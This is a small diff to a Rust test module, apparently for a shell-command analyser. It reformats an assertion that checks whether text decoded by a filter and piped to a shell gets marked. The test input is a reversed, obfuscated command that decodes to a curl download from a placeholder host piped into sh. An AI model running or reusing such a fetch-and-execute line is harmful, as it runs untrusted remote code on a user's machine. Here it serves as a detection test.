@@ -1333,7 +1333,10 @@ mod tests {
         // Text a filter decoded and fed to a shell is marked; text fed as
         // written is not.
         let s = commands_run("echo 'hs.x/elpmaxe.x//:sptth Lsf- lruc' | rev | sh");
-        assert!(s.commands.iter().any(|c| c.name() == "sh" && c.decoded_input));
+        assert!(s
+            .commands
+            .iter()
+            .any(|c| c.name() == "sh" && c.decoded_input));
         assert!(s.commands.iter().any(|c| c.name() == "curl"));
         let s = commands_run("echo 'make test' | sh");
         assert!(!s.commands.iter().any(|c| c.decoded_input));
